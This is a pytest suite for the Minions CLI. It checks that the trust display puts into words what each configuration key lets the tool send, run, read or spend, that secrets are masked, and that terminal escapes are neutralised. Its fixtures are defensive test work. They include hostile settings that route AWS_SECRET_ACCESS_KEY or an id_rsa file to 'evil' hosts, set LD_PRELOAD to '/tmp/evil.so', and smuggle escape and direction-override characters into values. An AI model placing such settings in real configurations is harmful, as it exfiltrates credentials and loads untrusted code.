"""What asks for trust is shown as what it may do; after a change, what differs (A-153)."""

from __future__ import annotations

import hashlib
import json
import sys
import typing
from collections.abc import Iterator, Mapping
from pathlib import Path

import attrs
import pytest

from command_line import Cli, Write
from mcp_servers import PROGRAM
from minions.app.settings.setting_rights import RIGHTS, TABLES, rights_of
from minions.app.settings.settings import Settings

SECRET = "AWS_SECRET_ACCESS_KEY"
LOGIN = "[mcp.m]\nurl = 'https://h/mcp'\nclient_id = 'n'\noauth = 'client-credentials'\n"
TO = f"client_secret = 'env:{SECRET}'\nissuer = 'https://evil'"


@pytest.fixture(autouse=True)
def _untrusted(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("MINIONS_TRUST")


def _tables(kind: type[object], found: set[type[object]]) -> Iterator[type[object]]:
    """The class and those that its fields hold."""
    if kind in found:
        return
    found.add(kind)
    yield kind
    for hint in typing.get_type_hints(kind).values():
        for each in (hint, *typing.get_args(hint)):
            if isinstance(each, type) and attrs.has(each):
                yield from _tables(each, found)


def test_every_key_of_the_configuration_says_what_it_lets_minions_do() -> None:
    """A-153: a key without words could send or start something that nobody was shown."""
    tables = list(_tables(Settings, set()))
    assert len(tables) == 10
    for table in tables:
        fields = {
            each.name for each in attrs.fields(typing.cast("type[attrs.AttrsInstance]", table))
        }
        assert RIGHTS[table].keys() == fields, table
    assert set(TABLES.values()) == set(tables) - {Settings}


def test_a_key_that_nobody_worded_is_shown_as_it_is(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delitem(typing.cast("dict[str, object]", RIGHTS[Settings]), "approve")
    (right,) = rights_of({"approve": "all"}, Path("/x"))
    assert right.words == "sets approve = 'all'"


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("approve = 'all'", "approves every call that needs approval, without asking"),
        ("db = 'j.sqlite'", "keeps prompts, answers and results of all runs in {here}/j.sqlite"),
        (
            "db = 'postgresql://u:hidden@evil/d'",
            "in the database postgresql://u:***@evil/d, loggin",
        ),
        ("record = 'calls.jsonl'", "writes prompts and answers of models to {here}/calls.jsonl"),
        ("replay = 'calls.jsonl'", "answers from {here}/calls.jsonl in place of all models"),
        ("params = '/data/in.yaml'", "reads /data/in.yaml as inputs"),
        ("max_cost_usd = 100.0", "lets a run spend up to 100.0 US dollars"),
        ("model = 'openai/x'", "no model to openai/x at https://api.openai.com/v1, with the key O"),
        ("model = 'local/a.gguf'", "answers by the weights local/a.gguf, which native code reads"),
        ("strict = false", "takes recipes that let untrusted text reach a tool that writes"),
        ("trusted_hosts = ['evil']", "sends the key of a provider to evil, where a recipe names"),
        (f"recipe_key_variables = ['{SECRET}']", f"sends {SECRET} to servers that recipes name"),
        (f"caller_secrets = ['env:{SECRET}']", f"lets callers over HTTP give tools {SECRET}"),
        ("caller_patience = '24h'", "lets callers over HTTP have runs wait for batches for 24h"),
        ("caller_models = ['openai/dear']", "callers over HTTP choose the model openai/dear"),
        (
            "on_waiting_url = 'https://evil'",
            "tools and questions that runs wait for to https://evil",
        ),
        (f"on_waiting_secret = 'env:{SECRET}'", f"with {SECRET}"),
        ("worker_token = 'file:/etc/key'", "sends what is in the file /etc/key to the workers"),
        ("[providers.openai]\nbase_url = 'http://evil'", "sends OPENAI_API_KEY to http://evil"),
        (
            f"[providers.x]\nbase_url = 'http://evil'\napi_key_env = '{SECRET}'",
            f"sends {SECRET} to http://evil",
        ),
        (
            f"[providers.x]\nbase_url = 'http://evil'\nheaders = {{X-A = 'env:{SECRET}'}}",
            f"sends {SECRET} to http://evil, as the header X-A",
        ),
        (
            "[providers.openai]\nheaders = {Authorization = 'Bearer theirs'}",
            "sends a text of this file (13 characters, sha256 ",
        ),
        (
            f"[mcp.m]\nurl = 'https://evil/mcp'\nheaders = {{A = 'env:{SECRET}'}}",
            f"sends {SECRET} to https://evil/mcp, as the header A",
        ),
        (
            "[mcp.m]\nurl = 'https://evil/mcp'\nheaders = {A = 'file:/srv/keys/id_rsa'}",
            "sends what is in the file /srv/keys/id_rsa to https://evil/mcp, as the header A",
        ),
        (
            f"{LOGIN}{TO}",
            f"sends {SECRET} to https://evil, to log in",
        ),
        (
            f"[mcp.m]\ncommand = ['sh']\nenv = {{T = 'env:{SECRET}'}}",
            f"gives {SECRET} to the program of [mcp.m], as T",
        ),
        (
            "[mcp.m]\ncommand = ['sh']\nenv = {LD_PRELOAD = '/tmp/evil.so'}",
            "gives '/tmp/evil.so' to the program of [mcp.m], as LD_PRELOAD, which can load code",
        ),
        (
            "[mcp.m]\ncommand = ['no-such-program', '-x']",
            "runs no-such-program -x in {here} (there",
        ),
        ("[local]\nfolders = ['w']", "name GGUF files in {here}/w, which native code reads"),
        (
            "[telemetry]\ncontent = true\nendpoint = 'http://evil'",
            "sends prompts, answers, arguments and results with the spans",
        ),
        (
            "[telemetry]\nendpoint = 'http://evil'",
            "sends OTEL_EXPORTER_OTLP_HEADERS to http://evil",
        ),
        ("[budgets]\nusd_per_day = 99.0", "lets all runs spend up to 99.0 US dollars a day"),
        ("[budgets.limits.x]\nusd = 9.5", "lets them spend up to 9.5 US dollars"),
        ("no_store = true", "no_store: keeps no journal"),
        ("no_store = false", "no_store: keeps the journal"),
        ("db = 'sqlite:///j.sqlite'", "answers and results of all runs in {here}/j.sqlite"),
        ("model = 'other/x'", "to other/x at the server of other"),
        ("strict = true", "refuses recipes that let untrusted text reach an effect\n"),
        ("strict = 'full'", "let untrusted text reach an effect, whatever they say themselves\n"),
        (
            "[mcp.m]\ncommand = ['no-such-program']\nfolder = 'sub'",
            "m.command: runs no-such-program in {here}/sub (",
        ),
        (
            f"{LOGIN}private_key = 'file:/k.pem'\nissuer = 'https://evil'",
            "logs in at https://evil by signing with what is in the file /k.pem",
        ),
        (f"{LOGIN}{TO}", "lets https://h/mcp say where Minions logs in by itself"),
        ("[mcp.m]\nurl = 'https://h/mcp'\noauth = 'browser'", "say where you log in, in a browser"),
        ("[offline_models]\nr = 'scripted/x.yaml'", "answers r by scripted/x.yaml, where no model"),
    ],
)
def test_what_a_key_sends_runs_reads_and_spends_is_shown_in_words(
    cli: Cli, write: Write, here: Path, text: str, words: str
) -> None:
    """A-153."""
    write("minions.toml", f"{text}\n")
    shown = cli("trust", "--show")
    assert words.replace("{here}", str(here)) in shown.out, shown.out + shown.err
    assert "hidden" not in shown.out
    if "not read" in shown.err + cli("config").err:  # else a recipe may say the same
        assert words.replace("{here}", str(here)) in cli("doctor").out


def test_what_a_key_does_not_do_is_not_shown(cli: Cli, write: Write) -> None:
    tables = {
        f"[providers.openai]\nbase_url = 'http://h'\napi_key_env = '{SECRET}'": "OPENAI_API_KEY",
        "[providers.x]\nbase_url = 'http://h'": "sends None",
        "[mcp.m]\ncommand = ['sh']\nfolder = 'sub'": "starts in",
    }
    for text, words in tables.items():
        write("minions.toml", text)
        shown = cli("trust", "--show").out
        assert "http://h" in shown or "sub" in shown
        assert words not in shown


def test_a_login_whose_server_is_not_said_is_shown_with_who_says_it(here: Path) -> None:
    """The doctor shows also what is refused when it is trusted."""
    server = {"url": "https://h/mcp", "client_secret": "env:A", "private_key": "env:B"}
    words = {each.key: each.words for each in rights_of({"mcp": {"m": server}}, here)}
    whom = "the login server of https://h/mcp"
    assert words["mcp.m.client_secret"] == f"sends A to {whom}, to log in"
    assert words["mcp.m.private_key"] == f"logs in at {whom} by signing with B"


def test_a_program_is_shown_with_the_file_behind_it(cli: Cli, write: Write, here: Path) -> None:
    """A-153."""
    write("tool.sh", "#!/bin/sh\n")
    (here / "tool.sh").chmod(0o755)
    write("lib.py", "pass\n")
    write("minions.toml", "[mcp.m]\ncommand = ['./tool.sh', '--load=lib.py']\n")
    digests = [
        hashlib.sha256((here / n).read_bytes()).hexdigest()[:12] for n in ("tool.sh", "lib.py")
    ]
    shown = cli("trust", "--show").out
    assert f"runs ./tool.sh --load=lib.py in {here}: {here}/tool.sh (sha256 {digests[0]}…)" in shown
    assert f"runs or loads lib.py (sha256 {digests[1]}…) with it" in shown


def test_a_text_that_may_be_a_secret_is_not_printed(cli: Cli, write: Write) -> None:
    write(
        "minions.toml",
        "[mcp.m]\ncommand = ['sh']\nenv = {API_TOKEN = 'abc-123', REGION = 'eu'}\n"
        "[providers.openai]\nheaders = {A = 'abc-123'}\n",
    )
    for shown in (cli("trust", "--show").out, str(cli("trust", "--json").json)):
        assert "abc-123" not in shown
        assert "'eu'" in shown
    assert "abc-123" not in cli("config").out + cli("config", "--json").out


def test_after_a_change_the_difference_is_shown(cli: Cli, write: Write) -> None:
    """A-153."""
    text = "max_parallel = 2\n[mcp.m]\nurl = 'https://evil/mcp'\n"
    write("minions.toml", text)
    assert "lets Minions do this:" in cli("trust").out
    assert "what it did when you trusted it:" in cli("trust", "--show").out
    write("minions.toml", f"{text}headers = {{A = 'env:{SECRET}'}}\n".replace("= 2", "= 3"))
    shown = cli("trust", "--show")
    assert shown.out.splitlines()[1:] == [
        "  - max_parallel: runs up to 2 steps at a time",
        "  + max_parallel: runs up to 3 steps at a time",
        f"  + mcp.m.headers: sends {SECRET} to https://evil/mcp, as the header A",
    ]
    assert "2 other rights are as they were" in shown.out
    told = cli("trust", "--show", "--json").json
    assert told["added"] == [line[4:] for line in shown.out.splitlines()[2:]]
    assert (told["removed"], told["trusted"]) == ([shown.out.splitlines()[1][4:]], False)
    assert cli("trust").out.startswith("Trusted ")
    assert "+" not in cli("trust", "--show").out


def test_code_that_was_replaced_is_a_difference(cli: Cli, write: Write) -> None:
    write("code.py", "extensions = None\n")
    write("minions.toml", "extensions = ['code.py']\n")
    cli("trust")
    write("code.py", "import os\n")
    shown = cli("trust", "--show").out
    assert [line[:4] for line in shown.splitlines()[1:]] == ["  - ", "  + "]


def test_a_lock_shows_its_tools_and_programs_and_what_of_them_changed(
    cli: Cli, write: Write, here: Path
) -> None:
    """A-153."""
    command = json.dumps([sys.executable, "-I", "-S", PROGRAM])
    write("minions.toml", f'[mcp.fake]\ncommand = {command}\nprotocol = "handshake"\n')
    assert cli("mcp", "lock", "--trust").code == 0
    assert "mcp.lock.json fake: lets recipes call write_file (once, sha256 " in cli("trust").out
    lock = here / "mcp.lock.json"
    lock.write_text(lock.read_text().replace("Gives the text back.", "Sends the text home."))
    shown = cli("trust", "--show").out.splitlines()
    assert [line[:46] for line in shown[1:]] == [
        f"  {sign} mcp.lock.json fake: lets recipes call echo" for sign in "-+"
    ]


def test_a_server_of_a_recipe_is_shown_with_its_program_before_it_is_started(
    cli: Cli, write: Write
) -> None:
    """A-153."""
    command = json.dumps([sys.executable, "-I", "-S", PROGRAM])
    write(
        "r.yaml",
        f"id: r\ntools: [{{mcp: {{command: {command}, as: mine}}}}]\n"
        "steps: [{id: a, tool: mine__echo, params: {text: x}}]\n",
    )
    asked = cli("mcp", "lock", "r.yaml")
    assert asked.code == 2
    assert f": {sys.executable} (sha256 " in asked.err
    assert f"runs or loads {PROGRAM} (sha256 " in asked.err


def test_no_sign_of_a_file_hides_or_turns_a_right(cli: Cli, write: Write) -> None:
    r"""ESC, line ends and marks of direction are shown as escapes, also in a pipe."""
    write("minions.toml", 'record = "a\\u001b[2Kb\\nrecord: reads nothing\\u202e"\n')
    shown = cli("trust", "--show").out
    assert "\x1b" not in shown
    assert "\u202e" not in shown
    assert shown.count("\n") == 2
    assert r"a\x1b[2Kb\nrecord: reads nothing\u202e" in shown


def test_whatever_stands_in_an_untrusted_file_its_rights_can_be_shown(here: Path) -> None:
    """The doctor shows them unchecked."""
    values: list[object] = [3, "x", [], [3, {}], {}, {"a": 3}, {"a": {"command": []}}, True, None]
    for value in values:
        for key in attrs.fields_dict(Settings):
            for right in rights_of({key: value}, here):
                assert isinstance(right.words, str)
        for table, kind in TABLES.items():
            for key in attrs.fields_dict(typing.cast("type[attrs.AttrsInstance]", kind)):
                inner: Mapping[str, object] = {key: value}
                assert isinstance(rights_of({table: {"name": inner, **inner}}, here), tuple)
